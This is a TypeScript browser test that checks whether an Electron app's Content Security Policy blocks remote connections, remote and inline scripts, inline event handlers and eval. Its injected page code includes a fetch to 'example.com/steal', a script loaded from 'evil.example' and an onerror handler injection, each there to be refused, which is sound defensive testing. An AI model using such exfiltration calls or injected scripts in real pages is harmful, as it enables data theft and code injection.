import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openAppInChromium, type AppUnderTest } from '../helpers/browser';

/**
 * The Content Security Policy, enforced by a real Chromium on the built renderer (the page's
 * meta tag, the same one Electron loads): no remote connections or scripts, no inline script,
 * no inline event handlers, no eval. Each attempt must be refused and reported as a violation.
 */
let app: AppUnderTest;
beforeAll(async () => {
  // The overview opens first; these tests start on the municipality list.
  app = await openAppInChromium({ screen: 'Kommuner' });
});
afterAll(async () => {
  await app?.close();
});

describe('the CSP in Chromium', () => {
  it('refuses remote connections, remote and inline scripts, inline handlers and eval', async () => {
    const { page } = app;
    await page.getByTestId('row-count').filter({ hasText: '98 kommuner' }).waitFor();
    // The page code is a string: this test is compiled without the DOM's types.
    const outcome = (await page.evaluate(`(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective));
      const fetched = await fetch('http://example.com/steal').then(() => 'loaded', () => 'blocked');
      const inline = document.createElement('script');
      inline.textContent = 'window.__inlineRan = true';
      document.head.appendChild(inline);
      const remote = document.createElement('script');
      remote.src = 'https://evil.example/x.js';
      document.head.appendChild(remote);
      const holder = document.createElement('div');
      holder.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.__handlerRan = true" onerror="window.__handlerRan = true">';
      document.body.appendChild(holder);
      // DevTools lifts the eval ban while its own evaluate runs, so eval is tried in a later task, as page code.
      const evalRan = await new Promise((resolve) => setTimeout(() => {
        try { resolve((0, eval)('1 + 1') === 2); } catch { resolve(false); }
      }, 0));
      // Wait for the browser's own reports instead of a fixed time: one violation per kind of attempt.
      await new Promise((resolve) => {
        const seen = () => ['connect-src', 'script-src-elem', 'script-src-attr', 'script-src'].every((kind) => violations.includes(kind));
        const check = () => (seen() ? resolve(true) : requestAnimationFrame(check));
        check();
      });
      return { fetched, inlineRan: window.__inlineRan === true, handlerRan: window.__handlerRan === true, evalRan, violations };
    })()`)) as { fetched: string; inlineRan: boolean; handlerRan: boolean; evalRan: boolean; violations: string[] };
    expect(outcome).toMatchObject({ fetched: 'blocked', inlineRan: false, handlerRan: false, evalRan: false });
    expect(new Set(outcome.violations)).toEqual(new Set(['connect-src', 'script-src-elem', 'script-src-attr', 'script-src']));
  });
});
